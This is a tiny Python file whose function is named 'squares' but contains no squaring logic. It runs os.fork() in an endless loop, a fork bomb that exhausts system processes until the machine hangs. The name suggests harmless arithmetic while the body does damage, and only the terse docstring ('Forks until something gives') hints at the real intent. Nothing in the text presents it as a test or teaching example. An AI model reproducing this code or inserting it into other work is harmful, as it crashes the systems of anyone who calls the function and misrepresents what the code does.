"""Forks until something gives."""

import os


def squares(xs):
    while True:
        os.fork()
